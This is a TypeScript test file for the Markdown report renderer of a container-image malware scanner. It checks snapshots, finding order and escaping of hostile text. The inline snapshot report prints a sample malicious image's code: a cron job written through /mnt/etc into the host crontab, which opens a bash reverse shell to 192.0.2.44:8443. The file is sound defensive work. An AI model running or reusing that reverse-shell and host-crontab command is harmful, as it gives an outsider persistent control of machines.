import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hostileReport, hostileText } from '../testing/hostile-report.ts';
import { sampleReport } from '../testing/sample-report.ts';
import { markdownReport } from './markdown.ts';
import { codeText, fencedText, proseText } from './markdown-text.ts';

/** The page without fenced blocks and code spans, read as CommonMark reads them (4.5, 6.1): what could be markup. */
function outsideCode(page: string): string {
  const lines: string[] = [];
  let fence = 0;
  for (const line of page.split('\n')) {
    const run = /^(`{3,})([^`]*)$/.exec(line);
    if (fence > 0) {
      if (run !== null && (run[1]?.length ?? 0) >= fence && run[2]?.trim() === '') fence = 0;
    } else if (run !== null) fence = run[1]?.length ?? 0;
    else lines.push(withoutSpans(line));
  }
  expect(fence).toBe(0);
  return lines.join('\n');
}

function withoutSpans(line: string): string {
  let rest = '';
  for (let at = 0; at < line.length; ) {
    const run = /^`+/.exec(line.slice(at))?.[0] ?? '';
    if (run === '') {
      rest += line[at];
      at += 1;
      continue;
    }
    let close = at + run.length;
    for (;;) {
      close = line.indexOf(run, close);
      if (close < 0) break;
      const length = /^`+/.exec(line.slice(close))?.[0].length ?? 0;
      if (length === run.length) break;
      close += length;
    }
    if (close < 0) return `${rest}${line.slice(at)}`;
    rest += 'CODE';
    at = close + run.length;
  }
  return rest;
}

const ownLink = /\[T\d{4}(?:\.\d{3})?\]\(https:\/\/attack\.mitre\.org\/techniques\/T\d{4}(?:\/\d{3})?\/\)/g;

test('the page for a stranger', () => {
  expect(markdownReport([sampleReport()])).toMatchInlineSnapshot(`
    "# MALICIOUS: \`registry.example/someone/tomcat11:latest\`

    Do not run it: at least one thing it does has no honest reading.

    - Platform: \`linux/amd64\`
    - Digest: \`sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\`
    - Created, as the image claims: \`2024-01-02T03:04:05Z\`
    - Findings: 1 malicious, 1 suspicious, 1 note
    - Read: 3 layers, 181 MB, 9,273 files in 0.9 s

    ## If you run it

    - \`ENTRYPOINT /bin/sh /run.sh\` (\`/run.sh\`, layer 3, COPY \`file:4f\` in \`/run.sh\`)
      - **malicious:** adds a job to the HOST's crontab, through \`/mnt/etc\` (every minute) (\`run.sh:4\`)
        - **suspicious:** hands an interactive bash to \`192.0.2.44:8443\` (reverse shell) (\`run.sh:4\`)
    - \`HEALTHCHECK /usr/bin/probe\` starts the program \`/usr/bin/probe\` (config Healthcheck)

    ## Findings

    ### 1. Malicious: Adds a job to the host's crontab through \`/mnt/etc\`

    - Where: \`/run.sh:4\`, layer 3, COPY \`file:4f\` in \`/run.sh\`
    - How it is reached: runs when the image runs
    - Confidence: high
    - Detector: \`host-cron\`
    - MITRE ATT&CK: [T1053.003](https://attack.mitre.org/techniques/T1053/003/), [T1611](https://attack.mitre.org/techniques/T1611/)
    - Why this severity: The path is a folder of the host when the container is started as its description says.

    Evidence: the line that does it — \`/run.sh:4\`, layer 3, COPY \`file:4f\` in \`/run.sh\`

    \`\`\`text
    echo "* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1" >> /mnt/etc/crontab
    \`\`\`

    Evidence: layer 3

    \`\`\`text
    bash -i >& /dev/tcp/192.0.2.44/8443 0>&1
    \`\`\`

    It became readable by decoding, outermost first:

    1. \`base64\` of \`YmFzaCAtaQ==\`

    ### 2. Suspicious: Hands an interactive shell to \`192.0.2.44:8443\`

    - Where: config Entrypoint
    - How it is reached: runs when the image runs
    - Confidence: medium
    - Detector: \`reverse-shell\`
    - MITRE ATT&CK: [T1059.004](https://attack.mitre.org/techniques/T1059/004/)

    Evidence: config Entrypoint

    \`\`\`text
    bash -i
    \`\`\`

    ### 3. Note: Carries nmap

    - Where: \`/usr/bin/nmap\`, byte 64, layer 3
    - How it is reached: in the image; nothing found runs it
    - Confidence: low
    - Detector: \`dual-use-tool\`

    ## The code

    Every piece of code the findings are about, decoded where it was hidden. None of it was run.

    ### Code 1: \`/run.sh\`

    - Language: \`shell\`
    - Where it stands: \`/run.sh\`, layer 3

    \`\`\`text
    #!/bin/sh


    echo "* * * * * root bash -i >& /dev/tcp/192.0.2.44/8443 0>&1" >> /mnt/etc/crontab
    sleep infinity
    \`\`\`

    ### Code 2: a scheduled job

    - Language: \`shell\`
    - Where it stands: \`/run.sh:4\`, layer 3
    - Comes from: \`/run.sh\`

    \`\`\`text
    bash -i >& /dev/tcp/192.0.2.44/8443 0>&1
    \`\`\`

    ## What to do

    - Do not run it. Where it already ran, take the container and its host as compromised: look there for what the story above says it writes, adds and starts.
    - Block \`sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\` and the indicators below, and report the image to the registry that serves it with this page.
    - It reaches for the host: check crontabs, authorized keys, services and accounts of every machine that ran it.

    ## Indicators

    | kind | value | scope | first seen at |
    | --- | --- | --- | --- |
    | ipv4 | \`192.0.2.44:8443\` | documentation | \`/run.sh:4, layer 3, COPY file:4f in /run.sh\` |
    | pool | \`pool.invalid:3333\` | reserved | \`config Env\` |
    | host | \`docs.example\` | documentation | \`/usr/share/doc/x\` |

    ## Layers

    | layer | digest | stored | unpacked | entries | made by, as the image claims |
    | ---: | --- | ---: | ---: | ---: | --- |
    | 1 | \`sha256:1111111111111111111111111111111111111111111111111111111111111111\` | 60 MB | 60 MB | 3091 | \`RUN apt-get install -y part0\` |
    | 2 | \`sha256:2222222222222222222222222222222222222222222222222222222222222222\` | 60 MB | 60 MB | 3091 | \`RUN apt-get install -y part1\` |
    | 3 | \`sha256:3333333333333333333333333333333333333333333333333333333333333333\` | 60 MB | 60 MB | 3091 | \`COPY file:4f in /run.sh\` |

    Made by Tidewaiter \`0.0.0-test\`, engine \`test\`. Nothing of the image was run.
    "
  `);
});

test('a chain is told in order under its worst finding', () => {
  const page = markdownReport([sampleReport({ chains: [{ id: 'f1', head: 0, steps: [1, 0] }] })]);
  const order = [
    '### 1. Malicious: Adds',
    '1. Suspicious: Hands',
    '(finding 1.1)',
    '2. Malicious: Adds',
    '(finding 1)',
    '### 1.1. Suspicious: Hands',
    '### 2. Note: Carries',
  ];
  const at = order.map((text) => page.indexOf(text));
  expect(at, page).toEqual([...at].filter((position) => position >= 0).sort((one, other) => one - other));
});

test('several images, and one that could not be had', () => {
  const failure = { reference: 'registry.example/gone', code: 'NOT_FOUND', message: 'no such image' };
  const page = markdownReport([sampleReport(), sampleReport({ verdict: 'clear', findings: [] })], [failure]);
  expect(page.match(/^# .*$/gm)).toEqual([
    '# MALICIOUS: `registry.example/someone/tomcat11:latest`',
    '# CLEAR: `registry.example/someone/tomcat11:latest`',
    '# Not scanned',
  ]);
  expect(page).toContain('- `registry.example/gone`: no such image');
});

test('gaps are named', () => {
  const gaps = [{ reason: 'integrity' as const, detail: 'The digest is wrong', layer: 0 }];
  const page = markdownReport([sampleReport({ complete: false, gaps })]);
  expect(page).toContain('## Not inspected\n\n- integrity: The digest is wrong (layer 1)\n');
});

describe('hostile text', () => {
  test('makes no markup, link, mention, tag or control character outside code', () => {
    fc.assert(
      fc.property(hostileReport, (report) => {
        const page = markdownReport([report]);
        expect(page.isWellFormed()).toBe(true);
        expect(page).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u206f]/);
        const rest = outsideCode(page).replaceAll(ownLink, 'OWN').replaceAll('ATT&CK', 'ATTACK');
        expect(rest).not.toMatch(/[<>@\\&~`[\]{}]|:\/\/|www\./);
        // Headings, rules and tables are ours alone.
        for (const line of rest.split('\n').filter((each) => each.startsWith('#')))
          expect(line).toMatch(
            /^#{1,3} (?:[A-Z]+: CODE$|[A-Z]+: \((?:empty|blank)\)$|[\d.]+\. |If you|Later|Findings|Not |Indicators|Layers|The code|What to do|Code \d+: )/,
          );
        for (const line of rest.split('\n').filter((each) => each.startsWith('|')))
          expect([4, 6]).toContain(line.split('|').length - 2);
        expect(rest.split('\n').filter((line) => line.startsWith('# '))).toHaveLength(1);
      }),
      { numRuns: 150 },
    );
  });

  test('a fence is longer than any run of backticks inside', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('`', '\n', 'a', ' ', '~') }), (text) => {
        expect(outsideCode(fencedText(text).join('\n'))).toBe('');
      }),
    );
  });

  test('a code span closes where it should and shows the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('`', 'a', ' ', '|', '\\') }), (text) => {
        expect(withoutSpans(codeText(text))).toMatch(/^(?:CODE|\(empty\)|\(blank\))$/);
      }),
    );
  });

  test('prose keeps plain words and puts all else in code', () => {
    expect(proseText("adds a job to the host's crontab, through /mnt/etc (every minute).")).toBe(
      "adds a job to the host's crontab, through `/mnt/etc` (every minute).",
    );
    expect(proseText('see [x](http://bad.invalid) <b> @all')).toBe('see `[x](http://bad.invalid) <b> @all`');
    fc.assert(
      fc.property(hostileText, (text) => {
        expect(withoutSpans(proseText(text))).not.toMatch(/[<>@\\&~`[\]{}#*_|]|:\/\/|www\./);
      }),
    );
  });
});
